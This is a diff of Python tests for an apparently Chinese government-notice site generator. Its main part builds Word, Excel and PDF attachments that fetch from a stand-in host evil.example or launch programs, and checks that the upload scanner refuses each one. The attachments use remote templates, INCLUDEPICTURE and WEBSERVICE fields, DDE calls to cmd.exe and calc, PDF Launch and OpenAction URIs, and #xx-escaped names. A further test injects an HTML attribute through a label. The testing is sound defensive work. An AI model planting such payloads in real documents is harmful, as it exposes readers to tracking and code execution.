@@ -91,8 +91,32 @@ def test_navigation_labels_reach_the_theme_as_html_text(tmp_path):
         plugins: dict = {}
 
     config = Config()
+    config.theme = {"palette": [{"toggle": {"name": ""}}, {"toggle": {"name": ""}}]}
+    text = labels.read_text("utf-8").replace(
+        "  elder_on: 切换到大字版\n",
+        "  elder_on: '切换到大字版\" style=\"position:fixed;inset:0\" data-x=\"'\n")
+    labels.write_text(text, "utf-8")
     mkdocs_hook.on_config(config)
     assert config.nav[0] == {"首页 &amp; 动态": "index.md"}
+    # the palette's names are printed into title="…" and aria-label="…" as they are
+    assert config.theme["palette"][0]["toggle"]["name"] == (
+        "切换到大字版&quot; style=&quot;position:fixed;inset:0&quot; data-x=&quot;")
+
+
+def test_the_label_reference_is_the_shipped_labels(request):
+    """generator/label_fields.yml, which `check` holds staff's labels to, says what the
+    shipped labels.yml has: every label, its placeholders, every list."""
+    from generator.checks import _label_reference, label_reference_text
+
+    made = label_reference_text((ROOT / "site_config/labels.yml").read_text("utf-8"))
+    reference = ROOT / "generator/label_fields.yml"
+    if request.config.getoption("--update-golden"):
+        reference.write_text(made, "utf-8")
+    assert reference.read_text("utf-8") == made
+    fields, lists = _label_reference()
+    assert fields["home.phase_running"] == {"name", "start", "end", "left"}
+    assert "reader.decisive_columns" in lists
+    assert sum(1 for names in fields.values() if names) > 60
 
 
 # ------------------------------------------------------------------- masking
@@ -176,6 +200,337 @@ def test_extract_text_reads_plain_text_and_refuses_markup_files():
                                   b"\xe5\x9b\xbe</text></svg>") == [Passage(1, "", "图")]
 
 
+# ------------------------------------------------- attachments that reach outside the file
+# Opening one of these makes the reader's Word, Excel or PDF reader fetch an address
+# (the reader's IP, time and software go to whoever runs it) or run a program: refused,
+# each with a message naming what was found. A hyperlink the reader clicks is allowed,
+# in Word, Excel and PDF alike, as a link on the site is, and its address is scanned.
+
+def _docx_with_remote_template() -> bytes:
+    import zipfile
+
+    import docx
+
+    d = docx.Document()
+    d.add_paragraph("附件：名单说明。")
+    buf = io.BytesIO()
+    d.save(buf)
+    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "word/settings.xml":
+                data = data.replace(b"<w:defaultTabStop",
+                                    b'<w:attachedTemplate r:id="rIdEvil"/><w:defaultTabStop', 1)
+            if item.filename == "word/document.xml":
+                data = data.replace(b"<w:sectPr", b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "
+                                    b'"http://evil.example/p.png" \\d \'><w:r><w:t>p</w:t></w:r>'
+                                    b"</w:fldSimple></w:p><w:sectPr", 1)
+            zout.writestr(item, data)
+        zout.writestr("word/_rels/settings.xml.rels", (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
+            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+            'Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+            'TargetMode="External"/></Relationships>'))
+    return out.getvalue()
+
+
+def _xlsx_with_webservice() -> bytes:
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = "单位"
+    book.active["A2"] = '=WEBSERVICE("http://evil.example/?q="&A1)'
+    buf = io.BytesIO()
+    book.save(buf)
+    return buf.getvalue()
+
+
+def _pdf_with_page_open_uri() -> bytes:
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    action = DictionaryObject({NameObject("/S"): NameObject("/URI"),
+                               NameObject("/URI"): TextStringObject("http://evil.example/o")})
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
+    buf = io.BytesIO()
+    writer.write(buf)
+    return buf.getvalue()
+
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _package(made: bytes, edits=(), added=None) -> bytes:
+    """A DOCX/XLSX package with (part, old, new) replacements made and parts added;
+    a part ending in .rels that already exists gets the added relationships."""
+    import zipfile
+
+    added = dict(added or {})
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(made)) as zin, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            for part, old, new in edits:
+                if part == item.filename:
+                    assert old in data, old
+                    data = data.replace(old, new, 1)
+            if item.filename in added:
+                data = data.replace(b"</Relationships>",
+                                    added.pop(item.filename).encode() + b"</Relationships>")
+            zout.writestr(item, data)
+        for part, data in added.items():
+            if part.endswith(".rels"):
+                data = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
+                        f'schemas.openxmlformats.org/package/2006/relationships">{data}'
+                        "</Relationships>")
+            zout.writestr(part, data)
+    return out.getvalue()
+
+
+def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="{rid}" Type="{_REL}{kind}" Target="{target}"{mode}/>'
+
+
+def _docx(text: str = "附件：名单说明。", body: str = "", edits=(), added=None) -> bytes:
+    """A Word file of one paragraph, with `body` (WordprocessingML) added after it."""
+    import docx
+
+    document = docx.Document()
+    document.add_paragraph(text)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    edits = [("word/document.xml", b"<w:sectPr", body.encode() + b"<w:sectPr"), *edits]
+    return _package(buffer.getvalue(), edits, added)
+
+
+def _field(*runs: str) -> str:
+    """A paragraph holding one complex field whose code is written over `runs`."""
+    code = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
+                   for run in runs)
+    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code +
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def _xlsx(*cells: tuple[str, str], setup=None, edits=(), added=None) -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.active.title = "名单"
+    for ref, value in cells:
+        book.active[ref] = value
+    if setup:
+        setup(book)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return _package(buffer.getvalue(), edits, added)
+
+
+def _raw_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
+    """A one-page PDF written by hand (names as written, #xx escapes included), with
+    `catalog` and `page` added to those dictionaries and `more` as objects 4, 5…"""
+    objects = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
+               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>", *more]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
+    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
+              % (len(objects) + 1, xref))
+    return out.getvalue()
+
+
+def _link(action: bytes) -> bytes:
+    """A page's link annotation that runs `action` when clicked."""
+    return b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A" + action + b">>]"
+
+
+REACHING_OUT = {
+    # Word: relationships to outside targets, fields that fetch, objects that run
+    "remote template and INCLUDEPICTURE": ("说明.docx", _docx_with_remote_template, "模板"),
+    "remote template": ("说明.docx", lambda: _docx(edits=[(
+        "word/settings.xml", b"<w:defaultTabStop",
+        b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop')], added={
+        "word/_rels/settings.xml.rels": _rel("rIdT", "attachedTemplate",
+                                             "http://evil.example/t.dotm")}),
+        "模板.*http://evil.example/t.dotm"),
+    "INCLUDEPICTURE in fldSimple": ("说明.docx", lambda: _docx(body=(
+        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
+        "<w:r><w:t>p</w:t></w:r></w:fldSimple></w:p>")), "INCLUDEPICTURE"),
+    "includepicture split over instrText runs": ("说明.docx", lambda: _docx(body=_field(
+        " includ", 'ePicture "http://evil.example/p.png" \\d ')), "includePicture"),
+    "INCLUDETEXT": ("说明.docx", lambda: _docx(body=_field(
+        ' INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx" ')), "INCLUDETEXT"),
+    "LINK": ("说明.docx", lambda: _docx(body=_field(
+        ' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\s\\\\b.xlsx" "Sheet1!R1C1" \\a ')),
+        "LINK"),
+    "DDEAUTO": ("说明.docx", lambda: _docx(body=_field(
+        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')), "DDE"),
+    "DDE nested in an IF field": ("说明.docx", lambda: _docx(body=(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 '
+        '</w:instrText></w:r>' + _field(" dde cmd.exe \"/c calc\" ")[5:-6] +
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')), "dde"),
+    "field name made by a nested field": ("说明.docx", lambda: _docx(body=(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+        _field(' QUOTE "INCLUDEPICTURE" ')[5:-6] +
+        '<w:r><w:instrText> "http://evil.example/p.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')), "嵌套"),
+    "linked picture": ("说明.docx", lambda: _docx(added={
+        "word/_rels/document.xml.rels": _rel("rIdP", "image", "http://evil.example/p.png")}),
+        "图片.*http://evil.example/p.png"),
+    "UNC target without TargetMode": ("说明.docx", lambda: _docx(added={
+        "word/_rels/document.xml.rels": _rel("rIdP", "image", "\\\\evil.example\\s\\p.png",
+                                             external=False)}), "图片"),
+    "frame in webSettings": ("说明.docx", lambda: _docx(added={
+        "word/_rels/webSettings.xml.rels": _rel("rIdF", "frame", "http://evil.example/f.htm")}),
+        "框架网页"),
+    "hyperlink used as a template": ("说明.docx", lambda: _docx(edits=[(
+        "word/settings.xml", b"<w:defaultTabStop",
+        b'<w:attachedTemplate r:id="rIdH"/><w:defaultTabStop')], added={
+        "word/_rels/settings.xml.rels": _rel("rIdH", "hyperlink", "http://evil.example/t")}),
+        "用作 attachedTemplate"),
+    "OLE object": ("说明.docx", lambda: _docx(added={
+        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "OLE"),
+    "linked OLE object": ("说明.docx", lambda: _docx(added={
+        "word/_rels/document.xml.rels": _rel("rIdO", "oleObject", "file:///C:/x.xlsx")}),
+        "OLE 对象.*file:///C:/x.xlsx"),
+    "ActiveX control": ("说明.docx", lambda: _docx(added={
+        "word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
+    "macros": ("说明.docx", lambda: _docx(added={"word/vbaProject.bin": b"\0"}), "宏"),
+    "altChunk": ("说明.docx", lambda: _docx(added={
+        "word/afchunk.mht": "MIME-Version: 1.0", "word/_rels/document.xml.rels": _rel(
+            "rIdA", "aFChunk", "afchunk.mht", external=False)}), "altChunk"),
+    "mail merge": ("说明.docx", lambda: _docx(edits=[(
+        "word/settings.xml", b"<w:defaultTabStop",
+        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val='
+        b'"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\d.mdb"/>'
+        b'</w:mailMerge><w:defaultTabStop')]), "邮件合并"),
+    "embedded workbook that fetches": ("说明.docx", lambda: _docx(added={
+        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx_with_webservice()}),
+        "嵌入的 word/embeddings/Microsoft_Excel_Worksheet.xlsx：.*WEBSERVICE"),
+    "embedded presentation": ("说明.docx", lambda: _docx(added={
+        "word/embeddings/Microsoft_PowerPoint_Presentation.pptx": b"PK"}), "其他文件"),
+    "document embedded twice over": ("说明.docx", lambda: _docx(added={
+        "word/embeddings/a.docx": _docx(added={"word/embeddings/b.xlsx": _xlsx(("A1", "x"))})}),
+        "又嵌有"),
+    # Excel: formulas that fetch or call, links to other workbooks, data connections
+    "WEBSERVICE": ("表.xlsx", _xlsx_with_webservice, "“Sheet”A2.*WEBSERVICE"),
+    "webservice in lower case": ("表.xlsx", lambda: _xlsx(
+        ("B3", '=webservice("http://evil.example/")')), "“名单”B3.*WEBSERVICE"),
+    "IMAGE": ("表.xlsx", lambda: _xlsx(
+        ("A1", '=_xlfn.IMAGE("http://evil.example/i.png")')), "IMAGE"),
+    "WEBSERVICE saved as an unknown function": ("表.xlsx", lambda: _xlsx(
+        ("A1", '=_xludf.WEBSERVICE("http://evil.example/")')), "WEBSERVICE"),
+    "RTD": ("表.xlsx", lambda: _xlsx(("A1", '=RTD("evil.server","evil.example","x")')),
+            "RTD"),
+    "FILTERXML": ("表.xlsx", lambda: _xlsx(("A1", '=FILTERXML(B1,"//a")')), "FILTERXML"),
+    "WEBSERVICE in a defined name": ("表.xlsx", lambda: _xlsx(("A1", "=取数"), setup=lambda b:
+        b.defined_names.add(__import__("openpyxl").workbook.defined_name.DefinedName(
+            "取数", attr_text='WEBSERVICE("http://evil.example/")'))), "名称“取数”"),
+    "another workbook by index": ("表.xlsx", lambda: _xlsx(("A1", "=[1]Sheet1!A1")),
+                                  "其他工作簿"),
+    "another workbook by path": ("表.xlsx", lambda: _xlsx(
+        ("A1", "='\\\\evil.example\\s\\[b.xlsx]Sheet1'!A1")), "其他工作簿"),
+    "DDE": ("表.xlsx", lambda: _xlsx(("A1", "=cmd|' /C calc'!A0")), "DDE"),
+    "external link part": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
+        "xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "externalLinks"),
+    "data connection": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
+        "xl/connections.xml": "<connections/>"}), "数据连接"),
+    "linked picture in a sheet": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
+        "xl/worksheets/_rels/sheet1.xml.rels": _rel("rIdP", "image", "http://evil.example/p")}),
+        "图片.*http://evil.example/p"),
+    # PDF: actions run by themselves, actions that submit, import, launch or open
+    # another file, media; names written with #xx escapes are the same names
+    "page-open URI": ("表.pdf", _pdf_with_page_open_uri, "/AA.*http://evil.example/o"),
+    "document-level URI": ("表.pdf", lambda: _raw_pdf(
+        b"/AA<</WC<</S/URI/URI(http://evil.example/c)>>>>"), "/AA.*http://evil.example/c"),
+    "open action URI": ("表.pdf", lambda: _raw_pdf(
+        b"/OpenAction 4 0 R", b"", b"<</S/URI/URI(http://evil.example/o)>>"),
+        "/OpenAction.*http://evil.example/o"),
+    "SubmitForm": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/s)>>>>")), "SubmitForm"),
+    "ImportData": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/ImportData/F(d.fdf)>>")),
+                   "ImportData"),
+    "GoToR": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\o.pdf)/D[0/Fit]>>")), "GoToR"),
+    "GoToE": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/GoToE/T<</R/C/N(x)>>>>")),
+              "GoToE"),
+    "Launch": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Launch/F(calc.exe)>>")), "Launch"),
+    "Launch by an indirect name": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S 4 0 R/F(calc.exe)>>"), b"/Launch"), "Launch"),
+    "Sound": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Sound>>")), "Sound"),
+    "Movie annotation": ("表.pdf", lambda: _raw_pdf(b"", (
+        b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]"
+        b"/Movie<</F<</FS/URL/F(http://evil.example/m.mov)>>>>>>]")), "Movie"),
+    "RichMedia annotation": ("表.pdf", lambda: _raw_pdf(b"", (
+        b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")), "RichMedia"),
+    "Rendition": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Rendition/OP 0>>")),
+                  "Rendition"),
+    "URL file specification": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S/Thread/F<</FS/URL/F(http://evil.example/t.pdf)>>>>")), "/URL"),
+    "XFA form": ("表.pdf", lambda: _raw_pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"",
+                                           b"<</Length 0>>stream\n\nendstream"), "XFA"),
+    "SubmitForm written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S/Subm#69tForm/F(http://evil.example/s)>>")), "SubmitForm"),
+    "JavaScript written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", _link(
+        b"<</S/J#61vaScript/J#53(app.alert(1))>>")), "JavaScript"),
+    "page /AA written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", (
+        b"/#41A<</O<</S/URI/URI(http://evil.example/o)>>>>")), "/AA.*http://evil.example/o"),
+}
+
+
+@pytest.mark.parametrize("name,make,found", REACHING_OUT.values(), ids=REACHING_OUT.keys())
+def test_an_attachment_that_reaches_another_host_is_refused(name, make, found):
+    with pytest.raises(Refused, match=found) as refused:
+        extract_text(name, make())
+    assert refused.value.args[0] == "file-refused"
+
+
+def test_a_hyperlink_the_reader_clicks_is_kept_and_its_address_scanned():
+    """A link followed only when the reader clicks it is allowed, in Word, Excel and
+    PDF alike (as a link on the site is); its address is read like the text."""
+    def hyperlinked(cell):
+        cell.hyperlink = "mailto:zhangsan@qq.com"
+
+    word = _docx(body='<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>写信</w:t></w:r>'
+                      '</w:hyperlink></w:p>', added={"word/_rels/document.xml.rels": _rel(
+                          "rIdH", "hyperlink", "mailto:zhangsan%40qq.com")})
+    assert _kinds("a.docx", word) == ["email"]
+    field = _docx(body=_field(' HYPERLINK "https://www.example.gov.cn/" '))
+    assert extract_text("b.docx", field)
+    sheet = _xlsx(("A1", "写信"), ("A2", '=HYPERLINK("https://www.example.gov.cn/","网站")'),
+                  ("A3", '="WEBSERVICE(1)"'), ("A4", "=SUM(Table1[Amount])"),
+                  setup=lambda book: hyperlinked(book.active["A1"]))
+    assert _kinds("c.xlsx", sheet) == ["email"]
+    pdf = _raw_pdf(b"/OpenAction[3 0 R/Fit]", _link(b"<</S/URI/URI(mailto:zhangsan@qq.com)>>"))
+    assert _kinds("d.pdf", pdf) == ["email"]
+
+
+def test_a_workbook_embedded_in_a_document_is_read_as_an_attachment():
+    """The data of a chart in a Word file is a workbook inside it: scanned, not refused."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.active["A1"] = SECRET
+    buffer = io.BytesIO()
+    book.save(buffer)
+    word = _docx(added={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": buffer.getvalue()})
+    assert _kinds("a.docx", word) == ["id", "phone"]
+
+
 # ------------------------------------------------------------------- history, bulletin
 
 def _git(repo, *args):
@@ -224,12 +579,19 @@ def test_demo_project_is_clean():
 
 
 def test_the_sanitiser_reads_markdown_with_the_engines_extensions():
-    import yaml
+    import markdown
+    import mkdocs.config
 
-    engine = yaml.safe_load((ROOT / "mkdocs.yml").read_text("utf-8"))
-    names = {next(iter(e)) if isinstance(e, dict) else e for e in engine["markdown_extensions"]}
-    # toc only adds ids to headings; anything else that makes markup must be modelled.
-    assert names - {"toc"} == set(sanitize.MARKDOWN_EXTENSIONS)
+    # mkdocs adds its built-ins (toc, tables, fenced_code) to those of mkdocs.yml
+    engine = mkdocs.config.load_config(str(ROOT / "mkdocs.yml"))
+    assert sorted(engine["markdown_extensions"]) == sorted(sanitize.MARKDOWN_EXTENSIONS)
+    assert engine["mdx_configs"] == sanitize.MARKDOWN_CONFIGS
+    body = ("## 一、总体要求\n\n```\n代码\n```\n\n!!! note inline \"提示\"\n    内容\n\n"
+            "| 甲 | 乙 |\n| --- | --- |\n| 1 | 2 |\n\n<details><summary>展开</summary>说明</details>")
+    converted = markdown.Markdown(extensions=engine["markdown_extensions"],
+                                  extension_configs=engine["mdx_configs"]).convert(body)
+    assert sanitize.markdown_html(body) == converted
+    assert sanitize.removed(converted) == []  # what notices are written with stays
 
 
 def _kinds(name: str, data: bytes) -> list[str]:
